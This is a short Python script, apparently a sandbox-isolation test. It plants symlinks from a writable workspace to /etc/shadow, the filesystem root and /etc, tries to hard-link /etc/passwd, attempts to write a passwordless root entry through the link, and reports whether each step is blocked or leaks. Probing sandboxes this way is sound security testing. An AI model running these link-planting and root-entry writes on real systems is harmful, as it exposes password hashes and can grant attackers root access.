# Plant symlinks (and a hard link attempt) in the writable workspace so that
# the host, or a later sandbox binding them, follows them to /etc/shadow.
import errno, os
os.symlink("/etc/shadow", "/workspace/out")
os.symlink("/", "/workspace/rootlink")
os.symlink("../../../../../etc", "/workspace/up")
try:
    os.link("/etc/passwd", "/workspace/hard")
    print("hard link made")
except OSError as e:
    print("hard link blocked", errno.errorcode[e.errno])
# writing through the link inside the sandbox reaches only the rootfs /etc
try:
    open("/workspace/out", "w").write("root::0:0::/:/bin/sh\n")
    print("LEAK wrote through link")
except OSError as e:
    print("write through link blocked", errno.errorcode[e.errno])
print("planted", sorted(os.listdir("/workspace")))
